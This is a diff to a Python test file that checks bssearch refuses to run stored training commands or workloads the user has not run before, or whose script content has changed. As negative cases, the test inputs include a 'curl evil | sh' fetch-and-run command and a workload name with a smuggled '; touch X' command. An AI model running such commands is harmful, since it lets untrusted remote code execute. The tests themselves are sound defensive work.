@@ -7,12 +7,14 @@ from pathlib import Path
 
 import pytest
 
+from bssearch.commands.confirm import confirm_study
 from bssearch.commands.known_workloads import refuse_unknown, remember
 from bssearch.errors import UsageError
 from bssearch.records import StudyRecord
 from bssearch.settings import STATE_DIR_VARIABLE
+from bssearch.spec import StudySpec
 from tests.analysis.test_report import study
-from tests.factories import make_spec
+from tests.factories import SPEC, make_spec
 
 FOLDER = Path("/nowhere")
 OWN = make_spec(workload="task.py:Task", workload_settings={"width": 8})
@@ -90,3 +92,54 @@ def test_a_name_in_a_hint_is_quoted() -> None:
     with pytest.raises(UsageError) as caught:
         refuse_unknown(odd, stored(), FOLDER)
     assert caught.value.hint == "where you trust it, add --workload 'task.py:Task; touch X'"
+
+
+REPORT = {"step": r"step (\d+)", "accuracy": r"acc=(\S+)"}
+COMMAND = ["bash", "train.sh", "{batch_size}", "{learning_rate}"]
+
+
+def of_command(**changes: object) -> StudySpec:
+    space = {key: value for key, value in SPEC["space"].items() if key in ("batch_size", "learning_rate")}
+    default = {"batch_size": 32, "learning_rate": 0.1}
+    values = {key: value for key, value in SPEC.items() if key != "workload"}
+    return StudySpec.model_validate({**values, "space": space, "default": default, "command": COMMAND, **changes})
+
+
+def test_a_stored_command_is_code_that_this_user_has_run_or_names(tmp_path: Path) -> None:
+    own, record = of_command(), study(of_command())
+    (tmp_path / "train.sh").write_text("mine")
+    with pytest.raises(UsageError, match="on a database's word alone") as caught:
+        refuse_unknown(own, record, tmp_path)
+    assert caught.value.hint is not None
+    assert "add --workload command, which runs bash train.sh '{batch_size}' '{learning_rate}'" in caught.value.hint
+    remember(own, record, tmp_path)
+    refuse_unknown(own, record, tmp_path)
+    others = [["bash", "-c", "curl evil | sh", *COMMAND[2:]], [*COMMAND, "--more"], ["sh", *COMMAND[1:]]]
+    for other in [*(of_command(command=one) for one in others), of_command(report=REPORT)]:
+        with pytest.raises(UsageError, match="on a database's word alone"):
+            refuse_unknown(other, record, tmp_path)
+    (tmp_path / "train.sh").write_text("another's")
+    with pytest.raises(UsageError, match="as it is now"):
+        refuse_unknown(own, record, tmp_path)
+
+
+def test_a_file_elsewhere_that_a_command_names_is_known_by_its_content_too(tmp_path: Path) -> None:
+    for place in ("here", "shared"):
+        (tmp_path / place).mkdir()
+    far, linked = tmp_path / "shared" / "train.sh", tmp_path / "here" / "linked.sh"
+    far.write_text("as it was")
+    linked.symlink_to(far)
+    for name in (str(far), "linked.sh", f"--file={far}"):
+        far.write_text("as it was")
+        own = of_command(command=["bash", name, *COMMAND[2:]])
+        remember(own, study(own), tmp_path / "here")
+        refuse_unknown(own, study(own), tmp_path / "here")
+        far.write_text("another's")
+        with pytest.raises(UsageError, match="as it is now"):
+            refuse_unknown(own, study(own), tmp_path / "here")
+
+
+def test_no_workload_takes_the_place_of_a_command() -> None:
+    with pytest.raises(UsageError, match="the training of study 'toy' is a command") as caught:
+        confirm_study(of_command(), workload="digits", db="sqlite://")
+    assert caught.value.hint is not None and caught.value.hint.startswith("--workload command runs the command, bash")
